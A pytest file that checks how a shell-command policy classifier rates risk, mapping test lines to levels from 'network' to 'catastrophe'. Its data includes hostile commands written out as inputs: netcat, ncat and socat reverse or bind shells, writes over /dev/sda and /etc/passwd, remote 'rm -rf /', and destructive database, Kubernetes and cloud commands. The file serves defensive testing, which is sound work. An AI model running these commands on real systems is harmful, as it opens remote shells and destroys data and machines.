import pytest

from ferrule.policy.command import Level
from tests.policy.programs.words import ask, level


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("curl https://x", "network"),
        ("curl --unix-socket /var/run/docker.sock http://x", "danger"),
        ("curl -o /dev/sda https://x", "catastrophe"),
        ("wget -O /etc/passwd https://x", "catastrophe"),
        ("ping x", "network"),
        ("dig x", "network"),
        ("nc x 1", "network"),
        ("nc -zv x 1", "network"),
        ("nc -lvp 1", "network"),
        ("nc -e /bin/sh x 1", "catastrophe"),
        ("nc -nlvpe /bin/sh 1", "catastrophe"),
        ("ncat --sh-exec sh x 1", "catastrophe"),
        ("socat - TCP:x:1", "network"),
        ("socat TCP:x:1 exec:sh,pty", "catastrophe"),
        ("socat TCP:x:1 SYSTEM:sh", "catastrophe"),
        ("ssh host", "network"),
        ("ssh host ls", "network"),
        ("ssh -p 22 host ls", "network"),
        ("ssh -p 22 user@host rm -rf /", "catastrophe"),
        ("ssh -o ProxyCommand=x host", "danger"),
        ("ssh host $x", "danger"),
        ("scp a host:b", "network"),
        ("rsync a b", "changes"),
        ("rsync -e x a host:b", "danger"),
        ("rsync a host:b", "network"),
        ("rsync --del a/ /etc/", "catastrophe"),
        ("kubectl get pods", "network"),
        ("kubectl delete pod x", "danger"),
        ("kubectl exec x -- rm -rf /", "catastrophe"),
        ("terraform plan", "network"),
        ("terraform destroy", "danger"),
        ("aws s3 ls", "network"),
        ("aws s3 rm s3://x", "danger"),
        ("psql -c 'select 1'", "network"),
        ("psql -c 'DROP TABLE x'", "danger"),
        ("redis-cli flushall", "danger"),
    ],
)
def test_levels(line: str, expected: Level) -> None:
    assert level(line) == expected


def test_a_command_for_another_machine_is_a_script() -> None:
    found = ask("ssh -i key host cd x '&&' ls")
    assert [nested.script and nested.script.text for nested in found.runs] == ["cd x && ls"]
